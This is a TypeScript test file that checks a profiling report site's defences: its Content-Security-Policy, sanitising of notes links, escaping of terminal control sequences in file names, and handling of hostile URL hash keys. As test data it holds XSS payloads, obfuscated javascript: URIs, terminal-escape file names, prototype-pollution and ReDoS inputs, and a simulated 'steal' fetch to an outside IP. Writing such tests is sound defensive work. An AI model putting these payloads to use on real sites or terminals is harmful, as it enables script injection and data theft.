// The report site against a profiles folder someone else can write to, and against
// links someone else crafted: the Content-Security-Policy every built page carries
// (an injected script or handler does not run, nothing outside the site is fetched),
// page URLs whose view keys are hostile, a notes link with a malformed anchor, and
// escape sequences in file names kept off the build's terminal output.
import {createHash} from "node:crypto";
import {existsSync, readdirSync, readFileSync, writeFileSync} from "node:fs";
import {join} from "node:path";
import {JSDOM} from "jsdom";
import {describe, expect, it} from "vitest";
import {reportPolicy, withReportPolicy} from "../../src/cli/report-csp.js";
import {anchorId} from "../../src/components/view-history.js";
import {renderNotes} from "../../src/data/notes.js";
import {busiestSeconds} from "../../src/lib/heatmap.js";
import {synthesize} from "../../src/lib/synth/index.js";
import {CHROMIUM, reportInChromium} from "../site/watched-page.js";

describe("the report's Content-Security-Policy (withReportPolicy)", () => {
  const page = '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n<title>x</title>\n</head>\n<body><script type="module">\nimport "./a.js";\n</script><script src="b.js"></script></body></html>';

  it("goes first in <head>, allows the page's own inline script by its hash and nothing else inline", () => {
    const html = withReportPolicy(page, "p.html");
    const doc = new JSDOM(html).window.document;
    const meta = doc.head.firstElementChild!;
    expect(meta.getAttribute("http-equiv")).toBe("Content-Security-Policy");
    const policy = meta.getAttribute("content")!;
    expect(policy).toBe(reportPolicy(['\nimport "./a.js";\n']));
    // sha256 of the script's exact text, computed independently of the module.
    expect(policy).toContain(`'sha256-${createHash("sha256").update('\nimport "./a.js";\n').digest("base64")}'`);
    expect(policy.split("; ").find((d) => d.startsWith("script-src"))).not.toMatch(/unsafe/);
    for (const directive of ["default-src 'self'", "connect-src 'self'", "img-src 'self' data: blob:", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]) {
      expect(policy).toContain(directive);
    }
  });

  it("a page with a policy already, or with no <head>, is an error, never shipped without one", () => {
    expect(() => withReportPolicy(withReportPolicy(page, "p.html"), "p.html")).toThrow("p.html: already has a Content-Security-Policy");
    expect(() => withReportPolicy("<p>no head</p>", "q.html")).toThrow("q.html: no <head>");
  });
});

describe("links in notes that try to get past the scheme check", () => {
  it("entities, tabs, newlines and case in javascript: stay inert; protocol-relative links get noopener", () => {
    const notes = renderNotes("[a](java&#9;script:alert(1)) [b](&#x6a;avascript:alert(2)) [c](JaVaScRiPt:alert(3)) [d](java%0ascript:x) <javascript:alert(4)> [e](//evil.example/x) [f](\\\\evil.example/y)\n\n[r]: javascript:alert(5)\n\n[ref][r]\n", "n.md");
    const doc = new JSDOM(`<body>${notes.html}</body>`).window.document;
    const links = [...doc.querySelectorAll("a")].map((a) => [a.textContent, a.getAttribute("href"), a.getAttribute("rel")]);
    // What is left are relative paths (a percent-encoded tab or newline is no scheme)
    // and links to other sites that learn nothing about the report.
    expect(links).toEqual([
      ["a", "java%09script:alert(1)", null],
      ["d", "java%0ascript:x", null],
      ["e", "//evil.example/x", "noopener noreferrer"],
      ["f", "%5Cevil.example/y", null],
    ]);
    for (const [, href] of links) expect(new URL(href!, "http://report.example/profiles/a.html").protocol).toBe("http:");
  });
});

describe("busiestSeconds: an index sparkline of any length", () => {
  it("keeps each run's busiest second, at most the points asked for, without overflowing the stack", () => {
    expect(busiestSeconds([1, 5, 2, 0, 3], 10)).toEqual({values: [1, 5, 2, 0, 3], binSeconds: 1});
    expect(busiestSeconds([1, 5, 2, 0, 3], 2)).toEqual({values: [5, 3], binSeconds: 3});
    const long = new Uint32Array(1_000_000);
    long[999_999] = 7;
    const {values, binSeconds} = busiestSeconds(long, 400);
    expect(binSeconds).toBe(2500);
    expect(values).toHaveLength(400);
    expect(values.at(-1)).toBe(7);
  });
});

describe("anchorId: the id a notes link's hash names", () => {
  it("decodes percent-encoding, and keeps a malformed one as written instead of throwing", () => {
    expect(anchorId("#compare")).toBe("compare");
    expect(anchorId("#caf%C3%A9")).toBe("café");
    expect(anchorId("#%E0%A4")).toBe("%E0%A4");
    expect(anchorId("#%")).toBe("%");
  });
});

/** A file name with terminal escape sequences (OSC retitle, clear screen), a
 * right-to-left override and markup. */
const HOSTILE_NAME = "\u001b]0;pwned\u0007\u001b[2J\u202eevil <img src=x onerror=alert(1)>";
const HOSTILE_SLUG = "0-pwned-2J-evil-img-src-x-onerror-alert-1";
/** Escapes of a terminal, C1 CSI and the bidirectional controls escapeTerminal shows as codes. */
const TERMINAL_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const chromium = existsSync(CHROMIUM);
if (!chromium) console.warn(`\n*** SKIPPED the browser part of test/security/report-site.test.ts: no ${CHROMIUM} (apt-get install -y chromium) ***\n`);

describe.skipIf(!chromium)("a report of a hostile folder, in Chromium", () => {
  const site = reportInChromium("security", (profiles) => {
    const text = synthesize("one-thread-once", {seconds: 4, cpus: 2, hz: 199});
    writeFileSync(join(profiles, `${HOSTILE_NAME}.perf`), text);
    writeFileSync(join(profiles, `${HOSTILE_NAME}.md`), "Notes: [to a malformed anchor](#%E0%A4) and [to the compare heading](#compare).\n");
    // A newline in a file name, to forge a line of the build's output.
    writeFileSync(join(profiles, "line\nsubsecond: forged.perf"), text);
    // Two samples 11.5 days apart: its page would take minutes to draw.
    writeFileSync(join(profiles, "days-apart.perf"), "app 1 [000] 1.000000: 1 cpu-clock:\n\t401000 main+0x1 (/a)\n\napp 1 [000] 999000.500000: 1 cpu-clock:\n\t401000 main+0x1 (/a)\n\n");
    writeFileSync(
      join(profiles, `${HOSTILE_NAME}.annotations.json`),
      JSON.stringify({annotations: [{label: "\u001b[2J<svg onload=alert(2)>", from: 1, to: 2}, {label: "the first second", selection: "t0_1"}]}),
    );
  });

  it("the build prints file names and labels with their escape sequences shown as codes", () => {
    expect(site.buildOutput).toContain("\\x1b]0;pwned\\x07\\x1b[2J\\u202eevil");
    expect(site.buildOutput).not.toMatch(TERMINAL_CONTROLS);
    expect(site.buildOutput).toContain("subsecond: line\\nsubsecond: forged.perf: ");
    expect(site.buildOutput).not.toMatch(/^subsecond: forged/m);
  });

  it("a profile spanning days is listed as not shown, with why; the index draws", async () => {
    expect(site.buildOutput).toContain('"days-apart.perf": its samples span 999,000 s (perf time 1 s onwards); a report page draws at most 86,400 s (a day)');
    const page = await site.open("index.html");
    await page.waitForSelector(".subsecond-index tbody tr");
    expect(await page.locator(".subsecond-not-shown tbody tr", {hasText: "days-apart.perf"}).innerText()).toContain("span 999,000 s");
    expect(await page.locator(".subsecond-index tbody tr").count()).toBe(2);
    await page.close();
  });

  it("every page of the built site carries the policy", () => {
    const dist = join(site.work, "dist");
    const pages = readdirSync(dist, {recursive: true, encoding: "utf8"}).filter((f) => f.endsWith(".html"));
    expect(pages.length).toBe(4); // the index, two hostile profiles and the one not shown
    for (const file of pages) {
      const html = readFileSync(join(dist, file), "utf8");
      expect(html.match(/<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'sha256-[^']+'; /g), file).toHaveLength(1);
    }
  });

  it("the pages run under it, and markup injected into them can neither run nor fetch from elsewhere", async () => {
    const page = await site.openProfile(HOSTILE_SLUG);
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
      const w = window as unknown as Record<string, unknown>;
      // What an escape that was missed would let through.
      document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.pwnedByHandler = 1"><a id="js" href="javascript:window.pwnedByLink = 1">x</a>');
      const script = document.createElement("script");
      script.textContent = "window.pwnedByScript = 1";
      document.head.append(script);
      (document.getElementById("js") as HTMLAnchorElement).click();
      let fetched = "blocked";
      try {
        await fetch("http://198.51.100.7/steal");
        fetched = "fetched";
      } catch {
        // refused by connect-src before any request
      }
      const img = new Image();
      img.src = "http://198.51.100.7/pixel.png";
      await new Promise((r) => setTimeout(r, 300));
      return {handler: w.pwnedByHandler, link: w.pwnedByLink, script: w.pwnedByScript, fetched, violations: [...new Set(violations)].sort()};
    });
    expect(outcome).toEqual({handler: undefined, link: undefined, script: undefined, fetched: "blocked", violations: ["connect-src", "img-src", "script-src-attr", "script-src-elem"]});
    // Chromium reports each refusal on the console: those are the test's own.
    const ours = site.problems.filter((p) => !/Content Security Policy|ERR_BLOCKED_BY_CSP|198\.51\.100\.7/.test(p));
    site.problems.length = 0;
    site.problems.push(...ours);
    await page.close();
  });

  it("hostile view keys in the URL open the page without an error", async () => {
    // Each key malformed, huge or script-like; keys that do not mask each other share a URL.
    const hashes = [
      `#sel=c0_999999999999x0_0r50&q=${encodeURIComponent("(a+)+$")}&event=${encodeURIComponent("<img src=x onerror=alert(1)>")}&pid=1e400&tid=-1&cpu=99999999999999999999&palette=__proto__&idle=constructor&orient=%3Cscript%3E`,
      `#sel=${"t0_1~".repeat(5000)}t1_2&a=%E0%A4&q=${"(".repeat(5000)}&rows=0`,
      `#sel=%3Cscript%3Ealert(1)%3C%2Fscript%3E&zoom=${encodeURIComponent('{"__proto__": {"polluted": 1}}')}&rows=99999999999`,
      `#zoom=${encodeURIComponent(JSON.stringify(Array.from({length: 20_000}, () => "main")))}`,
      "#zoom=%5B%22&a=c0_999999999999x0_0r50",
      `#${"x".repeat(100_000)}`,
    ];
    for (const hash of hashes) {
      const page = await site.openProfile(HOSTILE_SLUG, hash);
      expect(await page.locator("#selection-flame .frame").count(), hash.slice(0, 60)).toBeGreaterThan(0);
      expect(await page.evaluate(() => (({}) as Record<string, unknown>).polluted)).toBeUndefined();
      await page.close();
    }
  }, 240_000);

  it("a notes link to a malformed anchor is followed without a page error", async () => {
    const page = await site.openProfile(HOSTILE_SLUG);
    await page.locator(".subsecond-notes a", {hasText: "to a malformed anchor"}).click();
    await page.locator(".subsecond-notes a", {hasText: "to the compare heading"}).click();
    await page.waitForTimeout(200);
    await page.close();
  });
});
